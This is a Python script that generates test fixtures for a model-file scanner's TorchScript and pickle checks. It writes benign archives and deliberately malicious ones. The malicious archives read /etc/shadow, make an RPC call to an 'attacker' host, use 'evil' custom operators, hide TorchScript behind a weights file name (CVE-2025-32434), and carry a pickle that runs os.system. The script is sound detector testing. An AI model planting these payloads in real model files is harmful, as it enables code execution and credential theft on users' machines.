#!/usr/bin/python3
"""TorchScript fixtures for pickle-code's TorchScript check: archives
written by torch.jit.save (scripted and traced: linear, convolution with
batch norm buffers, LSTM, a vendor module with its own name, a buffer and
a list attribute, a traced constant), which must give nothing from
pickle-code or package-anomaly at low or above, and copies edited the way
an attacker would (TorchScript compiles whatever source the archive
holds): aten::from_file reading a host file, an RPC call, a custom
operator namespace, a custom C++ class, a TorchScript archive named as a
weights file (the torch.load weights_only bypass, CVE-2025-32434), a
data.pkl importing a __torch__ class the code/ does not define, and a
data.pkl calling os.system.

usage: gen_torchscript.py OUT"""
import io
import os
import pickle
import sys
import warnings
import zipfile

import torch

from fixture_util import Manifest

torch.set_num_threads(1)


class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(4, 2)

    def forward(self, x):
        return torch.relu(self.fc(x)).sum(dim=1)


class ConvBn(torch.nn.Module):
    """Batch norm: running-statistics buffers, an int64 counter."""
    def __init__(self):
        super().__init__()
        self.conv = torch.nn.Conv2d(1, 4, 3)
        self.bn = torch.nn.BatchNorm2d(4)
        self.fc = torch.nn.Linear(4, 2)

    def forward(self, x):
        return self.fc(torch.relu(self.bn(self.conv(x))).mean(dim=(2, 3)))


class Recurrent(torch.nn.Module):
    """LSTM: a tensor list attribute (torch.jit._pickle tags in data.pkl)."""
    def __init__(self):
        super().__init__()
        self.lstm = torch.nn.LSTM(3, 5, batch_first=True)
        self.out = torch.nn.Linear(5, 2)

    def forward(self, x):
        y, _ = self.lstm(x)
        return self.out(y[:, -1])


class AcmeVendorBlock(torch.nn.Module):
    """A vendor's own module: a parameter, a buffer, a list of ints."""
    def __init__(self):
        super().__init__()
        self.w = torch.nn.Parameter(torch.randn(4, 4))
        self.register_buffer("scale", torch.tensor([2.0, 1.0, 0.5, 0.25]))
        self.taps = [1, 2, 3]

    def forward(self, x):
        return (x @ self.w) * self.scale


class Offset(torch.nn.Module):
    """No parameters; tracing makes the tensor a constant (constants.pkl)."""
    def forward(self, x):
        return x + torch.tensor([1.0, 2.0, 3.0, 4.0])


MODELS = [("linear", Net, (1, 4)), ("conv-bn", ConvBn, (1, 1, 6, 6)),
          ("lstm", Recurrent, (1, 3, 3)), ("vendor", AcmeVendorBlock, (2, 4)),
          ("offset", Offset, (2, 4))]


def saved(module):
    b = io.BytesIO()
    torch.jit.save(module, b)
    return b.getvalue()


def scripted():
    return saved(torch.jit.script(Net()))


def edit(archive, suffix, old, new):
    """Copies the zip, replacing old by new in the member ending in suffix."""
    src = zipfile.ZipFile(io.BytesIO(archive))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith(suffix):
                assert old in data, data
                data = data.replace(old, new)
            z.writestr(info, data)
    return out.getvalue()


def replace_member(archive, suffix, data):
    """Copies the zip with the member ending in suffix holding data."""
    src = zipfile.ZipFile(io.BytesIO(archive))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for info in src.infolist():
            z.writestr(info, data if info.filename.endswith(suffix) else src.read(info.filename))
    return out.getvalue()


def code_edit(archive, old, new):
    """An extra line in the top-level forward()."""
    return edit(archive, "code/__torch__.py", old.encode(), new.encode())


class Shell:
    def __reduce__(self):
        return (os.system, ("id",))


def main():
    m = Manifest(sys.argv[1], "pickle-code")
    # Benign: all of pickle-code and package-anomaly (which would take the
    # code/ sources for Python scripts) must stay quiet.
    for name, cls, shape in MODELS:
        for how in ("script", "trace"):
            module = cls().eval()
            with warnings.catch_warnings():  # tracing a torch.tensor() constant
                warnings.simplefilter("ignore", torch.jit.TracerWarning)
                module = (torch.jit.script(module) if how == "script"
                          else torch.jit.trace(module, torch.zeros(*shape)))
            m.add("benign", "%s-%s.pt" % (name, how + ("ed" if how == "script" else "d")),
                  saved(module), why="torch.jit.%s + torch.jit.save of %s" % (how, cls.__name__),
                  also="package-anomaly")
    b = io.BytesIO()
    torch.save(Net().state_dict(), b)
    m.add("benign", "state_dict.pt", b.getvalue(), why="a plain torch.save state dict")

    good = scripted()
    anchor = "_0 = torch.sum("
    m.add("malicious", "from-file.pt",
          code_edit(good, anchor, "_9 = torch.from_file(\"/etc/shadow\", False, 4096)\n    "
                    + anchor),
          ["torchscript.denied-call"], "aten::from_file of a host file")
    m.add("malicious", "rpc.pt",
          code_edit(good, anchor, "_9 = torch.distributed.rpc.rpc_sync(\"attacker\", torch.add, "
                                  "(x, x))\n    " + anchor),
          ["torchscript.denied-call"], "an RPC call to another host")
    m.add("malicious", "custom-op.pt",
          code_edit(good, anchor, "_9 = ops.evil_ns.run(x)\n    " + anchor),
          ["torchscript.custom-operator"], "operator of a custom namespace")
    m.add("malicious", "custom-class.pt",
          code_edit(good, anchor, "_9 = torch.classes.evil.Shell()\n    " + anchor),
          ["torchscript.review-call"], "custom C++ class")
    m.add("malicious", "pytorch_model.bin", good, ["torchscript.weights-only-bypass"],
          "a TorchScript archive named as weights (CVE-2025-32434)")
    # The __torch__ classes a data.pkl may import are those its code/
    # defines: here the source calls the class Nex, data.pkl still Net.
    m.add("malicious", "undefined-class.pt",
          code_edit(good, "class Net(Module):", "class Nex(Module):"),
          ["pickle.unknown-import"], "data.pkl imports a __torch__ class no code/ source defines")
    m.add("malicious", "os-system-data.pt",
          replace_member(good, "/data.pkl", pickle.dumps(Shell(), protocol=2)),
          ["pickle.denied-import"], "a TorchScript archive whose data.pkl calls os.system")

    # Malformed archives are the zip walker's (tests/plugins/pickle-code):
    # a TorchScript archive is only recognised once its directory reads.
    m.write()


if __name__ == "__main__":
    main()
